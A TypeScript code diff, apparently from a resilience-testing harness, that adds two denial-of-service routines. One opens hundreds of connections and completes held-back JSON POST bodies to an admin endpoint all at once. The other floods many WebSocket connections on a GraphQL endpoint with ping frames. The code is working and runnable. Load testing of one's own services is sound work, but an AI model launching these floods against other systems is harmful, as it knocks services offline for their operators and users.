@@ -78,14 +78,61 @@ const simultaneousBodies: RunAttack = async ({ url, loops = 20 }, signal) => {
   return NOTHING;
 };
 
+/** Opens connections, 20 at a time with a pause, and sends the same on each. */
+const openMany = async (
+  url: string,
+  signal: AbortSignal,
+  { count, pauseMs, text = '' }: { count: number; pauseMs: number; text?: string },
+): Promise<(Socket | null)[]> => {
+  const sockets: (Socket | null)[] = [];
+  while (sockets.length < count && !signal.aborted) {
+    const opened = await Promise.all(Array.from({ length: 20 }, () => open(url)));
+    for (const socket of opened) socket?.write(text);
+    sockets.push(...opened);
+    await delay(pauseMs);
+  }
+  return sockets;
+};
+
+const ZEROS = JSON.stringify({ a: Array(1_990).fill(0) });
+const ZEROS_HEAD = `POST /api/admin/x HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\nContent-Length: ${ZEROS.length}\r\n\r\n`;
+
+/** Completes small bodies on hundreds of connections at the same time. */
+const smallBodies: RunAttack = async ({ url, loops = 900 }, signal) => {
+  while (!signal.aborted) {
+    const text = ZEROS_HEAD + ZEROS.slice(0, -1);
+    const sockets = await openMany(url, signal, { count: loops, pauseMs: 40, text });
+    await delay(2_500);
+    for (const socket of sockets) socket?.write('}');
+    await delay(3_000);
+    for (const socket of sockets) socket?.destroy();
+  }
+  return NOTHING;
+};
+
+const HANDSHAKE =
+  'GET /graphql HTTP/1.1\r\nHost: gateway\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
+  'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n' +
+  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n';
+/** Empty, with a mask. */
+const PINGS = Buffer.alloc(72_000, Buffer.from([0x89, 0x80, 1, 2, 3, 4]));
+
+/** Opens WebSockets, and sends thousands of pings on all of them at once instead of connection_init. */
+const pingFloods: RunAttack = async ({ url, loops = 300 }, signal) => {
+  while (!signal.aborted) {
+    const sockets = await openMany(url, signal, { count: loops, pauseMs: 150, text: HANDSHAKE });
+    await delay(1_000);
+    for (const socket of sockets) socket?.write(PINGS);
+    await delay(2_500);
+    for (const socket of sockets) socket?.destroy();
+  }
+  return NOTHING;
+};
+
 /** Opens thousands of connections, sends nothing, and closes all of them at once. */
 const idleConnections: RunAttack = async ({ url, loops = 1_800 }, signal) => {
   while (!signal.aborted) {
-    const sockets: (Socket | null)[] = [];
-    while (sockets.length < loops && !signal.aborted) {
-      sockets.push(...(await Promise.all(Array.from({ length: 20 }, () => open(url)))));
-      await delay(20);
-    }
+    const sockets = await openMany(url, signal, { count: loops, pauseMs: 20 });
     for (const socket of sockets) socket?.destroy();
     await delay(500);
   }
@@ -165,6 +212,8 @@ export const RAW_CONNECTIONS = {
   pipelines,
   manyHeaders,
   simultaneousBodies,
+  smallBodies,
+  pingFloods,
   idleConnections,
   slowBodies,
   unreadPages,
